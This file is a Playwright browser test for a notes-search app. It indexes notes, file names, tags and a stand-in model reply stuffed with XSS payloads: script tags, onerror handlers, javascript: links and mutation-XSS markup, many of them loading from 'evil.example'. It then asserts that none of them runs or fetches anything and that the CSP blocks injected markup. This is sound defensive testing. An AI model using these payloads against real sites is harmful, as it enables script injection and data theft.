"""Notes and a model that attack whoever reads them, in a real browser: no script of theirs runs, nothing asks
anything, and neither the browser nor the server asks another computer for anything.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Final
from urllib.parse import quote

import pytest
from playwright.sync_api import Dialog, expect

from rag_core.config import Settings
from rag_core.library import Library
from rag_core.types import OWNER
from tests.browser.chromium import Watched, places, watch
from tests.conftest import index
from tests.support.chat_servers import OllamaChat, say
from tests.support.standin import serving
from tests.support.trees import write

pytestmark = [pytest.mark.browser, pytest.mark.thorough]

EVIL: Final = "http://evil.example"
RUN: Final = "window.owned=1;alert(1)"
ATTACKS: Final = (
    f"<script>{RUN}</script>",
    f'<script src="{EVIL}/x.js"></script>',
    f"<img src=x onerror='{RUN}'>",
    f'<img src="{EVIL}/a.png"><img srcset="{EVIL}/b.png 2x">',
    f"<svg onload='{RUN}'><use href='{EVIL}/c.svg#x'/></svg>",
    f"<style>@import '{EVIL}/d.css'; body {{ background: url({EVIL}/e.png) }}</style>",
    f'<link rel=stylesheet href="{EVIL}/f.css"><link rel=preconnect href="{EVIL}">',
    f'<iframe src="{EVIL}/g" srcdoc="<script>parent.owned=1</script>"></iframe><object data="{EVIL}/h">',
    f'<video src="{EVIL}/i.mp4" autoplay></video><audio src="{EVIL}/j.mp3">',
    f'<meta http-equiv=refresh content="0;url={EVIL}/k"><base href="{EVIL}/">',
    f"<form action='{EVIL}/l'><button autofocus onfocus='{RUN}'>x</button></form>",
    f'<a href="javascript:{RUN}" ping="{EVIL}/m">x</a> [x](javascript:{RUN}) [x](data:text/html,{RUN})',
    f"![x]({EVIL}/n.png) ![x][r]\n\n[r]: {EVIL}/o.png",
    f'<div style="background:url({EVIL}/p.png)" onmouseover="{RUN}">x</div>',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror='{RUN}'>",
    f"</p></div></script><script>{RUN}</script>",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\includegraphics{{{EVIL}/q.png}}$ :red[x] :material/home:",
    f"```mermaid\ngraph TD; A[<img src={EVIL}/r.png onerror='{RUN}'>]\n```",
    "{{ 7*7 }} ${7*7} %3Cscript%3E &lt;script&gt;",
)
ON_ONE_LINE: Final = " ".join(each.replace("\n", " ") for each in ATTACKS)
QUOTED: Final = ON_ONE_LINE.replace("\\", "").replace('"', "'")
NAME: Final = "harbour <img src=x onerror=alert(1)> ![x](http:evil.example) [x](javascript:alert(1)).md"
TAG: Final = "a<img/src=x/onerror=alert(1)>"
NOTES: Final = {
    "title.md": f'---\ntitle: "Harbour {QUOTED}"\n---\n\nThe harbour of the title.\n',
    "tags.md": f"---\ntags: ['{TAG}', '![x]({EVIL}/t.png)']\n---\n# A\n\nThe harbour.\n",
    "front.md": f'---\nauthor: "{QUOTED}"\naliases: ["{QUOTED[:900]}"]\n---\n# Front\n\nThe harbour.\n',
    "heading.md": f"# Harbour {ON_ONE_LINE}\n\n## {ON_ONE_LINE}\n\nThe harbour.\n",
    "text.md": "# Text\n\nThe harbour.\n\n" + "\n\n".join(ATTACKS),
    "code.py": f'def harbour() -> str:\n    """{QUOTED}"""\n    return "{QUOTED}"\n',
    "page.html": f"<h1>Harbour</h1>{ON_ONE_LINE}<p>The harbour.</p>",
    "table.csv": f'harbour,"{QUOTED}"\n"{QUOTED}",harbour\n',
    "links.md": f"# Links\n\nHarbour: [[{QUOTED[:200]}]] [[title|<img src={EVIL}/u.png>]] [x]({EVIL}/v)\n",
    NAME: "# Named\n\nThe harbour of the name.\n",
}
STRANGE: Final = (
    "main :is(script, iframe, object, embed, base, link:not([href$='/pages.search/search.css']), meta,"
    " form[action], img[src*='evil'], [onerror],"
    " [onload], [onfocus], [onmouseover], [ping], a[href^='javascript:' i], a[href^='data:' i])"
)
SAID: Final = f'The harbour: "The harbour" [1]. {ON_ONE_LINE} [1].\n\n' + "\n\n".join(ATTACKS)


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Watched]:
    folder: Path = tmp_path_factory.mktemp("attacks")
    write(folder / "notes", NOTES)
    library = Library.open(Settings(folder / "home" / "data", folder / "models", (folder,)))
    index(library, "port", folder / "notes")
    assert len(library.documents.all(OWNER, "port")) == len(NOTES)
    library.close()
    with serving(OllamaChat(script=say(SAID))) as talker:
        model = {"COMMONPLACE_LLM": "ollama:talker", "COMMONPLACE_OLLAMA_URL": talker.url}
        with watch(folder, places(folder) | model) as watched:
            yield watched
            assert watched.server.get("/_stcore/health")[0] == 200
            assert "Traceback" not in watched.server.log


@pytest.fixture(autouse=True)
def unharmed(app: Watched) -> Iterator[None]:
    """Nothing ran, opened or was fetched, in the browser and on the server."""
    asked: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        asked.append(dialog.message)
        dialog.dismiss()

    app.page.on("dialog", dismiss)
    yield
    app.rest()
    page = app.page
    assert page.evaluate("[typeof window.owned, document.title.includes('Commonplace')]") == [
        "undefined",
        True,
    ]
    assert page.url.startswith(f"http://{app.server.host}/")
    assert (asked, app.elsewhere, app.errors, len(page.context.pages)) == ([], [], [], 1)
    assert page.locator(STRANGE).count() == 0
    lookups = app.server.folder / "lookups"
    assert "evil" not in (lookups.read_text("utf-8") if lookups.exists() else "")
    page.remove_listener("dialog", dismiss)


@pytest.mark.parametrize("view", ["", "&view=table"])
def test_search_shows_hostile_notes_as_they_are_written(app: Watched, view: str) -> None:
    app.open(f"/?q=harbour&mode=lexical&k=50{view}")
    if not view:
        expect(app.page.get_by_text("<script>", exact=False).first).to_be_visible()
        for card in app.page.get_by_role("article").all():
            card.click(position={"x": 5, "y": 5})
        app.settle()


def test_a_hostile_query_is_words(app: Watched) -> None:
    for text in (ATTACKS[0], ATTACKS[2], ATTACKS[12], f"tag:{ATTACKS[2]}"):
        app.open(f"/?q={quote(text)}&store={quote(ATTACKS[2])}&type={quote(ATTACKS[0])}")


def test_files_shows_hostile_names_and_tags_as_they_are_written(app: Watched) -> None:
    app.open("/files?store=port")
    app.open(f"/files?store={quote(ATTACKS[2])}&path={quote(ATTACKS[0])}")


@pytest.mark.parametrize("path", NOTES, ids=lambda path: path[:12])
def test_the_page_of_a_hostile_document_shows_it_as_it_is_written(app: Watched, path: str) -> None:
    app.open(f"/files?store=port&path={quote(path)}")
    expect(app.page.get_by_text("arbour", exact=False).first).to_be_visible()


def test_what_a_hostile_model_says_is_text(app: Watched) -> None:
    app.open("/ask")
    box = app.page.get_by_label("Ask your notes")
    box.fill("harbour of the title")
    box.press("Enter")
    expect(app.page.get_by_text(f"<script>{RUN}</script>", exact=False).first).to_be_visible()
    app.page.reload()
    app.settle()
    expect(app.page.get_by_text(f"<script>{RUN}</script>", exact=False).first).to_be_visible()


def test_the_policy_stops_what_would_get_through(app: Watched) -> None:
    """As if a note had become markup after all."""
    app.open("/")
    for markup in (
        f'<img src="{EVIL}/z.png">',
        f'<img src=x onerror="{RUN}">',
        f'<link rel=stylesheet href="{EVIL}/z.css">',
    ):
        app.page.evaluate(
            "html => document.querySelector('main').insertAdjacentHTML('beforeend', html)", markup
        )
    app.page.wait_for_timeout(300)
    refused = [each for each in app.errors if "Content Security Policy" in each]
    assert len(refused) >= 3
    app.errors.clear()
    app.elsewhere.clear()
    app.open("/")
